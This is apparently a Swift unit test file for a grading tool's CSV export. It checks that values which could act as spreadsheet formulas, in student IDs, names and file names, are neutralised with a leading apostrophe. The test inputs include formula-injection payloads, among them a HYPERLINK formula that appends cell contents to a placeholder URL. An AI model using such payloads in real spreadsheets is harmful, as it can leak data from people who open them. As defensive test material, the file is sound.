import Foundation
import TestSupport
import Testing
@testable import Grading

/// Every CSV a person may open shows a would-be formula as text (a leading `'`, as OWASP advises); numbers stay numbers.
@Suite struct SpreadsheetCellTests {
    @Test(arguments: [
        ("=HYPERLINK(\"http://x/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\""),
        ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "\"'\rx\""),
        ("ann", "ann"), ("a=b", "a=b"), ("Smith, Ann", "\"Smith, Ann\""), ("", ""),
    ])
    func aCellThatCouldBeAFormulaIsText(_ text: String, _ cell: String) {
        #expect(SpreadsheetCell.text(text) == cell)
    }

    @Test func gradesCanvasAndLeaderboardNeutraliseIdsNamesAndTitlesOnce() throws {
        let roster = "id,name,sis_user_id,sis_login_id,section\n=s2,\"=HYPERLINK(\"\"http://x\"\",\"\"Click\"\")\",+2,@bo,-A\n"
        let folder = try GradingJobTests.classFolder(roster: roster)
        try FileManager.default.moveItem(atPath: folder.file("in/s2.csv"), toPath: folder.file("in/=s2.csv"))
        let job = GradingJob(assignment: folder.file("assignment.yaml"), submissions: folder.file("in"), out: folder.file("out"),
                             timestamps: folder.file("times.csv"))
        _ = try job.run()
        func read(_ name: String) throws -> [String] {
            try String(contentsOfFile: folder.file("out/\(name)"), encoding: .utf8).components(separatedBy: "\n")
        }
        let grades = try read("grades.csv"), canvas = try read("canvas.csv"), leaderboard = try read("leaderboard.csv")
        #expect(grades[1] == "'=s2,graded,5.00,0.00,5.00,10.00")
        #expect(canvas[2] == "\"'=HYPERLINK(\"\"http://x\"\",\"\"Click\"\")\",'=s2,'+2,'@bo,'-A,5.00")
        #expect(leaderboard.contains { $0.hasPrefix("1,'=s2,") }, "\(leaderboard)")
        // Numbers are written as numbers: the late penalty and the totals are never prefixed.
        #expect(grades[2] == "s3,graded,5.00,1.25,3.75,10.00")
        #expect(!grades.joined().contains("''"), "neutralised once")
    }
}
